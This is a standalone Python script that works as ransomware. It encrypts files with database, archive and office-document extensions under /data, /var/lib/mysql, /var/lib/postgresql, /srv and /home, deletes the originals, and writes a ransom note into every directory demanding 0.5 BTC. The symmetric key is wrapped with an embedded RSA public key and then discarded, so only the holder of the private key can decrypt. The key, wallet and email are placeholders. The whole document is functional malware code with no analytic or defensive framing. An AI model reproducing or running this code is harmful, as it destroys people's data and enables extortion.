import os, sys, base64
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives import serialization, hashes

PUB = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAPLACEHOLDERxxxxxxxxxx
-----END PUBLIC KEY-----"""
ROOTS = sys.argv[1:] or ["/data", "/var/lib/mysql", "/var/lib/postgresql", "/srv", "/home"]
EXT = {".sql", ".db", ".csv", ".json", ".tar", ".gz", ".zip", ".pdf", ".docx", ".xlsx", ".bak", ".dump"}
NOTE = """YOUR FILES HAVE BEEN ENCRYPTED.
Send 0.5 BTC to bc1qPLACEHOLDERxxxxxxxxxxxxxxxxxxxxxxxxxx and email recover@example.org
with your ID: {id}
"""

key = Fernet.generate_key()
f = Fernet(key)
pub = serialization.load_pem_public_key(PUB)
wrapped = base64.b64encode(pub.encrypt(key, padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None))).decode()

for root in ROOTS:
    for dp, _, files in os.walk(root):
        for n in files:
            p = os.path.join(dp, n)
            if os.path.splitext(n)[1].lower() not in EXT or p.endswith(".locked"):
                continue
            try:
                with open(p, "rb") as fh:
                    enc = f.encrypt(fh.read())
                with open(p + ".locked", "wb") as fh:
                    fh.write(enc)
                os.remove(p)
            except Exception:
                continue
        with open(os.path.join(dp, "README_RECOVER.txt"), "w") as fh:
            fh.write(NOTE.format(id=wrapped[:64]))
del key, f
